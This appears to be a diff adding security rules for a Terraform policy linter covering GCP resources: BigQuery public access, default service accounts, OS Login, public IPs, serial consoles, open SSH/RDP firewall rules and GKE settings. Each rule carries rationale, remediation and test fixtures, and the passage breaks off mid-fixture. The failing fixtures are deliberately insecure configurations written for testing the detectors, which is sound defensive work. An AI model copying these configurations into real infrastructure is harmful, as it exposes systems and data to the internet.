+          "google_bigquery_dataset_iam_member", "google_bigquery_dataset_iam_binding", "google_bigquery_dataset_iam_policy")
+        when not is_null(d.after)
+        # google_bigquery_dataset: `access` is computed (the default project roles) when not written.
+        let access_unset = is_unknown(d.after.access) and exists(d.config) and not exists(d.config.access)
+        let public_access = filter(a in d.after.access, a.special_group in param.public_principals or a.iam_member in param.public_principals)
+        require access_unset or count(public_access) == 0
+          else "'${d.address}' gives '${first(public_access).role}' to '${default(first(public_access).special_group, first(public_access).iam_member)}'"
+          at default(first(public_access).special_group, first(public_access).iam_member)
+        # google_bigquery_dataset_access (special_group, iam_member) and IAM members and bindings.
+        let direct = filter(x in flatten([[d.after.special_group, d.after.iam_member, d.after.member], default(d.after.members, [])]),
+          trim(x) in param.public_principals)
+        require count(direct) == 0
+          else "'${d.address}' gives '${d.after.role}' on dataset '${d.after.dataset_id}' to '${first(direct)}'"
+          at first(direct)
+        require not (d.after.policy_data matches "\"(allUsers|allAuthenticatedUsers)\"")
+          else "'${d.address}' grants a role to allUsers or allAuthenticatedUsers in its policy_data"
+          at d.after.policy_data
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "access": [{}, {}]},
+               "after": {"dataset_id": "analytics", "location": "EU", "access": [
+                 {"role": "OWNER", "special_group": "projectOwners", "iam_member": null},
+                 {"role": "READER", "group_by_email": "analysts@acme.example", "special_group": null, "iam_member": null}]}}}]}
+        """
+        example pass "default access, not written" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "access": true},
+               "after": {"dataset_id": "analytics", "location": "EU"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
+             "expressions": {"dataset_id": {"constant_value": "analytics"}, "location": {"constant_value": "EU"}}}]}}}
+        """
+        example fail "access block" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "access": [{}, {}]},
+               "after": {"dataset_id": "analytics", "location": "EU", "access": [
+                 {"role": "OWNER", "special_group": "projectOwners", "iam_member": null},
+                 {"role": "READER", "special_group": ↓"allAuthenticatedUsers", "iam_member": null}]}}}]}
+        """ expect "'google_bigquery_dataset.analytics' gives 'READER' to 'allAuthenticatedUsers'"
+        example fail "dataset access resource" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_bigquery_dataset_access.public", "mode": "managed", "type": "google_bigquery_dataset_access", "name": "public",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"dataset_id": "analytics", "role": "READER", "iam_member": ↓"allUsers"}}}]}
+        """ expect "gives 'READER' on dataset 'analytics' to 'allUsers'"
+        example fail "IAM policy" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_bigquery_dataset_iam_policy.dataset", "mode": "managed", "type": "google_bigquery_dataset_iam_policy", "name": "dataset",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
+               "after": {"dataset_id": "analytics", "policy_data": ↓"{\"bindings\":[{\"members\":[\"allAuthenticatedUsers\"],\"role\":\"roles/bigquery.dataViewer\"}]}"}}}]}
+        """ expect "in its policy_data"
+        example indeterminate "member known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_bigquery_dataset_iam_member.viewer", "mode": "managed", "type": "google_bigquery_dataset_iam_member", "name": "viewer",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"dataset_id": "analytics", "role": "roles/bigquery.dataViewer"}, "after_unknown": {"id": true, "etag": true, "member": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_compute_instance_default_sa_full_access.plumb",
+      text: #"""
+      rule gcp_compute_instance_default_sa_full_access {
+        title "Compute instances do not run as the default service account with full API access"
+        severity high
+        category security
+        tags [terraform, gcp, compute, iam]
+        rationale """
+          The Compute Engine default service account holds the Editor role on its project unless that
+          grant was removed. With the `cloud-platform` scope, any process on the VM, including an attacker
+          who exploits the application, can fetch its token from the metadata server and read, change
+          or delete nearly everything in the project: buckets, databases, secrets, other VMs.
+        """
+        remediation """
+          Give the instance a dedicated service account with only the roles it needs
+          (`service_account { email = google_service_account.app.email  scopes = ["cloud-platform"] }`),
+          or keep the default account but with narrow scopes; better, remove the Editor grant from the
+          default account (organization policy `iam.automaticIamGrantsForDefaultServiceAccounts`).
+        """
+        param full_scopes: list<string> = ["https://www.googleapis.com/auth/cloud-platform", "cloud-platform"]
+
+        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
+        when not is_null(i.after)
+        let sa = first(i.after.service_account)
+        # No service_account block: the VM has no credentials at all.
+        when not is_empty(i.after.service_account)
+        # `email` is computed (the default account) when it is not written.
+        let email_unset = is_unknown(sa.email) and exists(i.config) and not exists(first(i.config.service_account).email)
+        # An account created by a google_service_account resource is never the default one.
+        let created = any(ref in first(i.config.service_account).email.references, starts_with(ref, "google_service_account."))
+        let looked_up = any(ref in first(i.config.service_account).email.references, starts_with(ref, "data.google_compute_default_service_account."))
+        let default_account = looked_up or not created and (email_unset or is_null(sa.email) or trim(sa.email) == "default"
+          or ends_with(trim(sa.email), "-compute@developer.gserviceaccount.com"))
+        require not (default_account and any(s in sa.scopes, trim(s) in param.full_scopes))
+          else "'${i.address}' runs as the default Compute Engine service account with the cloud-platform scope: code on the VM can act as the project's Editor"
+          at first(filter(s in sa.scopes, known(s) and trim(s) in param.full_scopes))
+
+        example pass "dedicated service account" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "service_account": [{"scopes": [false]}]},
+               "after": {"name": "app-1", "machine_type": "e2-medium",
+                         "service_account": [{"email": "app-runtime@acme-prod.iam.gserviceaccount.com", "scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]}}}]}
+        """
+        example pass "default account with narrow scopes" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "service_account": [{"scopes": [false, false]}]},
+               "after": {"name": "app-1", "machine_type": "e2-medium",
+                         "service_account": [{"email": "123456789-compute@developer.gserviceaccount.com",
+                                              "scopes": ["https://www.googleapis.com/auth/logging.write", "https://www.googleapis.com/auth/monitoring.write"]}]}}}]}
+        """
+        example fail "default account named" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "service_account": [{"scopes": [false]}]},
+               "after": {"name": "app-1", "machine_type": "e2-medium",
+                         "service_account": [{"email": "123456789-compute@developer.gserviceaccount.com", "scopes": [↓"https://www.googleapis.com/auth/cloud-platform"]}]}}}]}
+        """ expect "'google_compute_instance.app' runs as the default Compute Engine service account with the cloud-platform scope"
+        example fail "email not written" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium", "service_account": [{"scopes": [↓"https://www.googleapis.com/auth/cloud-platform"]}]},
+               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "expressions": {"name": {"constant_value": "app-1"}, "service_account": [{"scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
+        """ expect "runs as the default Compute Engine service account"
+        example fail "default account looked up with a data source" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance_template.app", "mode": "managed", "type": "google_compute_instance_template", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name_prefix": "app-", "machine_type": "e2-medium", "service_account": [{"scopes": [↓"https://www.googleapis.com/auth/cloud-platform"]}]},
+               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_compute_instance_template.app", "mode": "managed", "type": "google_compute_instance_template", "name": "app",
+             "expressions": {"name_prefix": {"constant_value": "app-"},
+               "service_account": [{"email": {"references": ["data.google_compute_default_service_account.default.email", "data.google_compute_default_service_account.default"]}, "scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
+        """ expect "'google_compute_instance_template.app' runs as the default Compute Engine service account"
+        example pass "account created in the same configuration" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium", "service_account": [{"scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]},
+               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "expressions": {"name": {"constant_value": "app-1"},
+               "service_account": [{"email": {"references": ["google_service_account.app.email", "google_service_account.app"]}, "scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
+        """
+        example indeterminate "account from a module, known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium", "service_account": [{"scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]},
+               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "expressions": {"name": {"constant_value": "app-1"},
+               "service_account": [{"email": {"references": ["module.iam.runtime_email", "module.iam"]}, "scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_compute_instance_os_login_disabled.plumb",
+      text: #"""
+      rule gcp_compute_instance_os_login_disabled {
+        title "Compute instances do not turn OS Login off"
+        severity medium
+        category security
+        tags [terraform, gcp, compute, iam]
+        rationale """
+          OS Login ties SSH access to IAM identities: access follows group membership, is revoked when
+          someone leaves, can require 2-step verification and is audited. Setting `enable-oslogin` to
+          false on an instance overrides the project-wide setting and falls back to SSH keys in metadata,
+          which anyone with `compute.instances.setMetadata` can add, which nobody rotates and which
+          survive the departure of their owner.
+        """
+        remediation """
+          Remove `enable-oslogin = "FALSE"` from the instance's (or template's) `metadata` and enable
+          OS Login project-wide (`google_compute_project_metadata_item` `enable-oslogin = "TRUE"`, or the
+          organization policy `compute.requireOsLogin`).
+        """
+        param disabled_values: list<string> = ["false", "0", "no", "n", "off"]
+
+        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
+        when not is_null(i.after)
+        let v = i.after.metadata["enable-oslogin"]
+        require not exists(v) or lower(trim(to_string(v))) not in param.disabled_values
+          else "'${i.address}' turns OS Login off (metadata enable-oslogin = '${v}'): SSH keys in metadata grant access instead of IAM"
+          at v
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
+               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
+               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"enable-oslogin": ↓"false", "ssh-keys": "admin:ssh-ed25519 AAAA admin"}}}}]}
+        """ expect "'google_compute_instance.app' turns OS Login off (metadata enable-oslogin = 'false')"
+        example indeterminate "metadata known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium"}, "after_unknown": {"id": true, "metadata": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_compute_instance_public_ip.plumb",
+      text: #"""
+      rule gcp_compute_instance_public_ip {
+        title "Compute instances have no external IP address"
+        severity low
+        category security
+        tags [terraform, gcp, compute, network]
+        rationale """
+          An `access_config` (or `ipv6_access_config`) block gives the VM an external address: every
+          service on it is then reachable whenever a firewall rule is too broad, and the VM can send data
+          anywhere without passing a NAT or proxy you control. Most VMs only need outbound access
+          (Cloud NAT) and administrative access (IAP TCP forwarding), neither of which needs a public IP.
+        """
+        remediation """
+          Remove the `access_config` block from the `network_interface` of the `google_compute_instance`
+          (or instance template); use Cloud NAT for egress, IAP for SSH/RDP and a load balancer for
+          serving. The organization policy `compute.vmExternalIpAccess` can enforce it.
+        """
+
+        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
+        when not is_null(i.after)
+        let public = filter(e in map(ix, n in i.after.network_interface, {index: ix, nic: n}),
+          not is_empty(e.nic.access_config) or not is_empty(e.nic.ipv6_access_config))
+        require count(public) == 0
+          else "'${i.address}' has an external IP address: network_interface[${first(public).index}] has an access_config or ipv6_access_config block"
+          at default(first(first(public).nic.access_config), first(first(public).nic.ipv6_access_config))
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "network_interface": [{"access_config": [], "ipv6_access_config": [], "network_ip": true}]},
+               "after": {"name": "app-1", "machine_type": "e2-medium", "zone": "europe-west1-b",
+                         "network_interface": [{"subnetwork": "app", "access_config": [], "ipv6_access_config": []}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium", "zone": "europe-west1-b",
+                         "network_interface": [{"network": "default", "access_config": [↓{"public_ptr_domain_name": null}], "ipv6_access_config": []}]},
+               "after_unknown": {"id": true, "network_interface": [{"access_config": [{"nat_ip": true, "network_tier": true}], "ipv6_access_config": []}]}}}]}
+        """ expect "'google_compute_instance.app' has an external IP address: network_interface[0] has an access_config"
+        example indeterminate "network interfaces known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium", "zone": "europe-west1-b", "network_interface": [{"network": "default"}]},
+               "after_unknown": {"id": true, "network_interface": [{"access_config": true}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_compute_instance_serial_port_enabled.plumb",
+      text: #"""
+      rule gcp_compute_instance_serial_port_enabled {
+        title "Compute instances do not enable the interactive serial console"
+        severity medium
+        category security
+        tags [terraform, gcp, compute]
+        rationale """
+          `serial-port-enable = true` opens the VM's interactive serial console to anyone with the
+          right IAM permission, from any IP address: it bypasses VPC firewall rules, IAP and OS Login
+          network controls, and a console login prompt accepts local passwords, which are rarely
+          managed as carefully as SSH keys.
+        """
+        remediation """
+          Remove `serial-port-enable` from the instance's (or template's) `metadata`, or set it to
+          `"false"`; enable the console temporarily when you need it for debugging. The organization
+          policy `compute.disableSerialPortAccess` enforces it.
+        """
+        param enabled_values: list<string> = ["true", "1", "yes", "y", "on"]
+
+        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
+        when not is_null(i.after)
+        let v = i.after.metadata["serial-port-enable"]
+        require not exists(v) or lower(trim(to_string(v))) not in param.enabled_values
+          else "'${i.address}' enables interactive serial port access (metadata serial-port-enable = '${v}')"
+          at v
+          fix { set i.after.metadata["serial-port-enable"] = "false" }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
+               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE", "serial-port-enable": "false"}}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
+               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"serial-port-enable": ↓"TRUE"}}}}]}
+        """ expect "'google_compute_instance.app' enables interactive serial port access (metadata serial-port-enable = 'TRUE')"
+        example indeterminate "metadata known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {}},
+               "after_unknown": {"id": true, "metadata": {"serial-port-enable": true}}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_firewall_admin_ports_open.plumb",
+      text: #"""
+      rule gcp_firewall_admin_ports_open {
+        title "VPC firewall rules do not open SSH or RDP to the internet"
+        severity critical
+        category security
+        tags [terraform, gcp, network]
+        rationale """
+          An ingress rule that allows port 22 (SSH) or 3389 (RDP) from `0.0.0.0/0` puts the login
+          service of every targeted VM on the internet. Mass scanners find it within minutes and then
+          brute-force it or try the next remote-code-execution bug; exposed RDP is a leading ransomware
+          entry point. A rule allowing all ports (`protocol = "all"`, or no `ports`) or a range such as
+          `"20-30"` opens them just the same.
+        """
+        remediation """
+          Limit `source_ranges` to your VPN or office ranges, or allow only `35.235.240.0/20` and connect
+          through Identity-Aware Proxy TCP forwarding (`gcloud compute ssh --tunnel-through-iap`) instead.
+        """
+        param admin_ports: list<int> = [22, 3389]
+        param open_ranges: list<string> = ["0.0.0.0/0", "::/0"]
+        param protocols: list<string> = ["tcp", "all", "6"]
+
+        for fw in terraform.resource("google_compute_firewall")
+        when not is_null(fw.after)
+        when fw.after.disabled != true
+        # `direction` is computed (INGRESS) when it is not written.
+        when fw.after.direction != "EGRESS"
+          or (is_unknown(fw.after.direction) and exists(fw.config) and not exists(fw.config.direction))
+        # `source_ranges` is computed when not written: empty when tags or service accounts select the
+        # sources; with no source at all, Google decides (unknown here).
+        let ranges = fw.after.source_ranges
+        let ranges_unset = is_unknown(ranges) and exists(fw.config) and not exists(fw.config.source_ranges)
+        let other_sources = not is_empty(fw.after.source_tags) or not is_empty(fw.after.source_service_accounts)
+        let world_open = not (ranges_unset and other_sources) and any(r in ranges, trim(r) in param.open_ranges)
+        let pairs = flatten(map(a in filter(a in fw.after.allow, lower(a.protocol) in param.protocols),
+          map(p in param.admin_ports, {
+            allow: a,
+            port: p,
+            spec: first(filter(s in a.ports, to_int(s) == p or (to_int(split(s, "-")[0]) <= p and p <= to_int(split(s, "-")[1])))),
+            all_ports: is_empty(a.ports)})))
+        let exposures = filter(e in pairs, e.all_ports or not is_empty(e.spec))
+        require not world_open or count(exposures) == 0
+          else "'${fw.address}' allows port ${join(map(e in exposures, to_string(e.port)), ", ")} from '${first(filter(r in ranges, trim(r) in param.open_ranges))}'"
+          at default(first(exposures).spec, first(exposures).allow)
+
+        example pass "restricted sources" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_firewall.ssh", "mode": "managed", "type": "google_compute_firewall", "name": "ssh",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "allow-ssh-iap", "network": "default", "direction": "INGRESS", "disabled": false,
+                         "source_ranges": ["35.235.240.0/20"], "allow": [{"protocol": "tcp", "ports": ["22"]}], "deny": []}}}]}
+        """
+        example pass "web ports from anywhere, tag-based sources" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_firewall.web", "mode": "managed", "type": "google_compute_firewall", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "allow-web", "network": "default", "direction": "INGRESS", "disabled": false,
+                         "source_ranges": ["0.0.0.0/0"], "allow": [{"protocol": "tcp", "ports": ["80", "443", "8000-8080"]}, {"protocol": "icmp", "ports": []}], "deny": []}}},
+            {"address": "google_compute_firewall.internal", "mode": "managed", "type": "google_compute_firewall", "name": "internal",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "allow-internal", "network": "default", "source_tags": ["bastion"], "allow": [{"protocol": "tcp", "ports": ["22"]}], "deny": []},
+               "after_unknown": {"id": true, "self_link": true, "direction": true, "source_ranges": true, "source_tags": [false]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_compute_firewall.internal", "mode": "managed", "type": "google_compute_firewall", "name": "internal",
+             "expressions": {"name": {"constant_value": "allow-internal"}, "source_tags": {"constant_value": ["bastion"]}}}]}}}
+        """
+        example fail "port list" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_firewall.admin", "mode": "managed", "type": "google_compute_firewall", "name": "admin",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "allow-admin", "network": "default", "direction": "INGRESS", "disabled": false,
+                         "source_ranges": ["0.0.0.0/0"], "allow": [{"protocol": "tcp", "ports": ["443", ↓"3000-3400"]}], "deny": []}}}]}
+        """ expect "'google_compute_firewall.admin' allows port 3389 from '0.0.0.0/0'"
+        example fail "all protocols" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_firewall.any", "mode": "managed", "type": "google_compute_firewall", "name": "any",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "allow-any", "network": "default", "direction": "INGRESS", "disabled": false,
+                         "source_ranges": ["10.0.0.0/8", "0.0.0.0/0"], "allow": [↓{"protocol": "all", "ports": []}], "deny": []}}}]}
+        """ expect "allows port 22, 3389 from '0.0.0.0/0'"
+        example indeterminate "source ranges known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_compute_firewall.ssh", "mode": "managed", "type": "google_compute_firewall", "name": "ssh",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "allow-ssh", "network": "default", "direction": "INGRESS", "disabled": false,
+                         "allow": [{"protocol": "tcp", "ports": ["22"]}], "deny": []},
+               "after_unknown": {"id": true, "self_link": true, "source_ranges": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_gke_legacy_abac_enabled.plumb",
+      text: #"""
+      rule gcp_gke_legacy_abac_enabled {
+        title "GKE clusters do not use legacy ABAC authorization"
+        severity high
+        category security
+        tags [terraform, gcp, gke, kubernetes, iam]
+        rationale """
+          Legacy attribute-based access control grants permissions outside Kubernetes RBAC: with it
+          enabled, every service account in the cluster (including the default token mounted in each
+          pod) gets broad rights, so one compromised workload can read secrets and control the cluster.
+          RBAC policies, audit and IAM integration do not constrain it.
+        """
+        remediation "Remove `enable_legacy_abac = true` from the `google_container_cluster` (it defaults to false) and express access as RBAC roles."
+
+        for c in terraform.resource("google_container_cluster")
+        when not is_null(c.after)
+        require c.after.enable_legacy_abac != true
+          else "'${c.address}' enables legacy ABAC authorization (enable_legacy_abac = true)"
+          at c.after.enable_legacy_abac
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "enable_legacy_abac": false}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "enable_legacy_abac": ↓true}}}]}
+        """ expect "'google_container_cluster.main' enables legacy ABAC authorization"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-gke", "location": "europe-west1"}, "after_unknown": {"id": true, "endpoint": true, "enable_legacy_abac": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_gke_master_authorized_networks_missing.plumb",
+      text: #"""
+      rule gcp_gke_master_authorized_networks_missing {
+        title "GKE control planes restrict their public endpoint to authorized networks"
+        severity high
+        category security
+        tags [terraform, gcp, gke, kubernetes, network]
+        rationale """
+          Without master authorized networks, a cluster's public control-plane endpoint accepts
+          connections from any IP address. Stolen kubeconfigs, leaked service-account keys and
+          Kubernetes API vulnerabilities can then be used from anywhere on the internet; authorized
+          networks confine the API to the networks you operate from. Clusters whose control plane has no
+          public endpoint (`enable_private_endpoint = true`) are not checked.
+        """
+        remediation """
+          Add `master_authorized_networks_config { cidr_blocks { cidr_block = "<VPN/CI range>" } }` to the
+          `google_container_cluster`, or make the endpoint private
+          (`private_cluster_config { enable_private_endpoint = true }`).
+        """
+        param open_ranges: list<string> = ["0.0.0.0/0", "::/0"]
+
+        for c in terraform.resource("google_container_cluster")
+        when not is_null(c.after)
+        # Computed blocks when not written: no private endpoint, no authorized networks.
+        let pcc = c.after.private_cluster_config
+        let pcc_unset = is_unknown(pcc) and exists(c.config) and not exists(c.config.private_cluster_config)
+        when pcc_unset or first(pcc).enable_private_endpoint != true
+        let man = c.after.master_authorized_networks_config
+        let man_unset = is_unknown(man) and exists(c.config) and not exists(c.config.master_authorized_networks_config)
+        require not man_unset and count(man) > 0
+          else "'${c.address}' accepts Kubernetes API connections from any IP address: no master_authorized_networks_config"
+          at man
+        let open = filter(b in first(man).cidr_blocks, trim(b.cidr_block) in param.open_ranges)
+        require man_unset or count(open) == 0
+          else "'${c.address}' authorizes '${first(open).cidr_block}' to reach its control plane: that is the whole internet"
+          at first(open).cidr_block
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1",
+                         "private_cluster_config": [{"enable_private_nodes": true, "enable_private_endpoint": false, "master_ipv4_cidr_block": "172.16.0.0/28"}],
+                         "master_authorized_networks_config": [{"cidr_blocks": [{"cidr_block": "198.51.100.0/24", "display_name": "vpn"}]}]}}}]}
+        """
+        example pass "private endpoint" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1",
